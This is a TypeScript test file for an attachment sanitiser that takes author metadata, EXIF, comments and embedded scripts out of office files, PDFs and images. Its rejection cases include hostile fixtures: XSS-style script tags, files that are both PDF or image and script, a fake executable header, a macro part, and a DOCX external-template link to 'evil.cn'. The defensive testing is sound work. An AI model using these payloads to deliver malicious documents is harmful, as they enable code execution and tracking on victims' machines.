import { strToU8, unzipSync, zipSync } from 'fflate';
import { PDFDocument, PDFName } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { simpleDocx, paragraph } from '../../../test/paper/simple-docx.ts';
import {
  AUTHOR,
  sampleDocx,
  sampleJpeg,
  samplePdf,
  samplePng,
  sampleXlsx,
} from '../../../test/attachment/sample-files.ts';
import { readPaper } from '../read/read-paper.ts';
import { prepareAttachment } from './prepare-attachment.ts';

const utf8 = new TextEncoder();

function wholeText(bytes: Uint8Array): string {
  const decode = (part: Uint8Array): string => new TextDecoder('latin1').decode(part);
  if (bytes[0] !== 0x50) return decode(bytes);
  return Object.entries(unzipSync(bytes))
    .map(([name, part]) => name + decode(part))
    .join('\n');
}

function joined(...parts: readonly (Uint8Array | string)[]): Uint8Array {
  return Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : part)));
}

const withPart = async (name: string, content: string): Promise<Uint8Array> =>
  zipSync({ ...unzipSync(await sampleDocx()), [name]: strToU8(content) });

describe('prepareAttachment takes out who made a file, and leaves one that opens', () => {
  it('DOCX', async () => {
    const original = await sampleDocx();
    expect(wholeText(original)).toContain(AUTHOR);
    const { kind, clean, text, notes } = await prepareAttachment(original, '办法.docx');
    expect(kind).toBe('docx');
    expect(wholeText(clean)).not.toContain(AUTHOR);
    expect(text).toBe('农村饮水安全工程管护办法');
    expect((await readPaper(clean, '办法.docx')).lines).toEqual(['农村饮水安全工程管护办法']);
    expect(notes).toEqual(['已去掉文件里的批注。', '已去掉作者、单位、修改时间等文件属性。']);
  });

  it('XLSX', async () => {
    const { clean, text } = await prepareAttachment(await sampleXlsx(), '预算.xlsx');
    expect(text).toBe('项目\t金额\n办公费\t12.5');
    expect((await readPaper(clean, '预算.xlsx')).lines.join('\n')).toBe(text);
  });

  it('PDF, with its scripts and the files inside it', async () => {
    const { clean, text, notes } = await prepareAttachment(await samplePdf(), '办法.pdf');
    expect(text).toBe('Water supply');
    expect((await readPaper(clean, '办法.pdf')).lines).toEqual(['Water supply']);
    const document = await PDFDocument.load(clean, { updateMetadata: false });
    expect([document.getAuthor(), document.getProducer()]).toEqual([undefined, undefined]);
    expect(document.catalog.get(PDFName.of('Metadata'))).toBeUndefined();
    const objects = document.context.enumerateIndirectObjects().map(([, object]) => String(object));
    expect(objects.join('\n')).not.toMatch(/JavaScript|EmbeddedFile|xmpmeta/);
    expect(notes).toHaveLength(3);
  });

  it('JPG, which stays turned the way it was', async () => {
    const { clean, notes } = await prepareAttachment(sampleJpeg(), '现场.jpg');
    expect(wholeText(clean)).not.toContain(AUTHOR);
    expect(clean[29]).toBeDefined();
    expect(wholeText(clean)).toContain('Exif');
    expect(notes).toEqual(['已去掉图片里的EXIF（拍摄地点、时间、设备）。']);
  });

  it('PNG', async () => {
    const { clean } = await prepareAttachment(samplePng(), '图.png');
    expect(wholeText(clean)).not.toContain(AUTHOR);
    expect(wholeText(clean)).toMatch(/IHDR[\s\S]*IDAT[\s\S]*IEND/);
  });

  it('text of any encoding, in one', async () => {
    const gbk = Uint8Array.from([0xcf, 0xee, 0xc4, 0xbf, 0x2c, 0x31]);
    const { kind, clean } = await prepareAttachment(gbk, '表.csv');
    expect(kind).toBe('csv');
    expect(Buffer.from(clean).toString('utf8')).toBe('\ufeff项目,1');
  });

  it('not of a sealed file, which stays as it is, and says so', async () => {
    const sealed = await withPart('_xmlsignatures/sig1.xml', '<Signature/>');
    const { clean, notes } = await prepareAttachment(sealed, '办法.docx');
    expect(Buffer.from(clean).equals(Buffer.from(sealed))).toBe(true);
    expect(notes[0]).toContain('电子签章');
  });

  it('and tells of tracked changes that readers would see', async () => {
    const tracked = simpleDocx(
      `${paragraph('应当')}<w:p><w:del w:author="${AUTHOR}"><w:r><w:delText>不得</w:delText></w:r></w:del></w:p>`,
    );
    const { clean, notes } = await prepareAttachment(tracked, '办法.docx');
    expect(wholeText(clean)).not.toContain(AUTHOR);
    expect(notes[0]).toContain('修订');
  });
});

describe('prepareAttachment refuses', () => {
  it.each<[string, () => Promise<Uint8Array> | Uint8Array, string, string]>([
    ['a page', () => utf8.encode('<html><body><script>x</script></body></html>'), '页.html', '不能作为附件'],
    ['a page called text', () => utf8.encode('<script>alert(1)</script> x'), '说明.txt', '不能作为附件'],
    ['a vector picture', () => utf8.encode('<svg xmlns="x"><script/></svg>'), '图.png', '不能作为附件'],
    ['an archive', () => zipSync({ 'a.txt': strToU8('x') }), '包.zip', '压缩包'],
    ['a program', () => joined('MZ', new Uint8Array(200)), '程序.pdf', '不是文字'],
    ['another name', () => samplePng(), '图.jpg', '和扩展名不符'],
    ['macros', () => withPart('word/vbaProject.bin', 'x'), '办法.docx', '宏'],
    [
      'a foreign template',
      () =>
        withPart(
          'word/_rels/settings.xml.rels',
          '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.cn/a.dotm" TargetMode="External"/></Relationships>',
        ),
      '办法.docx',
      '外部的模板',
    ],
    [
      'a PDF that is a ZIP',
      async () => joined(await samplePdf(), zipSync({ a: strToU8('x') })),
      '甲.pdf',
      'ZIP压缩包',
    ],
    [
      'a PDF that is a page',
      async () => joined(await samplePdf(), '<script>alert(1)</script>'),
      '甲.pdf',
      '网页或脚本',
    ],
    ['a page that is a PDF', async () => joined('<html><body>', await samplePdf()), '甲.pdf', ''],
    [
      'a picture that is a ZIP',
      () => joined(samplePng(), zipSync({ a: strToU8('x') })),
      '图.png',
      'ZIP压缩包',
    ],
    [
      'a picture that is a page',
      () => joined(sampleJpeg(), '<script>alert(1)</script>'),
      '图.jpg',
      '网页或脚本',
    ],
    ['a picture that broke off', () => samplePng().subarray(0, 60), '图.png', '不完整'],
    ['a PDF that broke off', async () => (await samplePdf()).subarray(0, 300), '甲.pdf', '不完整'],
    ['nothing', () => new Uint8Array(0), '空.docx', '空的'],
  ])('%s', async (_, make, name, message) => {
    await expect(prepareAttachment(await make(), name)).rejects.toThrow(message);
  });
});
